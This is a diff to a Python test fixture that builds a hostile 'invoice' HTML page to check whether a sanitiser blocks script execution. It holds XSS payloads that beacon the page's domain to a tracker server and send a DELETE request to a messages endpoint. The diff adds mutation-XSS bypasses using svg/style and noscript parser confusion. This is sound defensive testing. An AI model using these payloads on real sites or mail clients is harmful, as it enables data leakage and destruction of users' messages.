@@ -437,6 +437,7 @@ class _Tracker(http.server.ThreadingHTTPServer):
 
 def _hostile(tracker: str) -> str:
     beacon = f"new Image().src='{tracker}/script-ran?'+document.domain"
+    bare = f"fetch('{tracker}/script-ran-unquoted')"  # no spaces: fits an unquoted attribute
     return (
         "<h1>Totally normal invoice</h1>"
         f"<script>{beacon};alert('script');fetch('/mockgun/messages',{{method:'DELETE'}})</script>"
@@ -446,6 +447,10 @@ def _hostile(tracker: str) -> str:
         f'<a id="evil" href="javascript:{beacon}">Click me</a>'
         f'<iframe srcdoc="<script>{beacon}</script>"></iframe>'
         f"<div style=\"background:url('{tracker}/bg.png')\">styled</div>"
+        # Where parsers disagree (foreign content, noscript), sanitisers slip (both run
+        # in the control):
+        f'<svg><style><img src="x" onerror="{beacon}"></style></svg>'
+        f'<noscript><p title="</noscript><img src=x onerror={bare}>"></noscript>'
     )
 
 
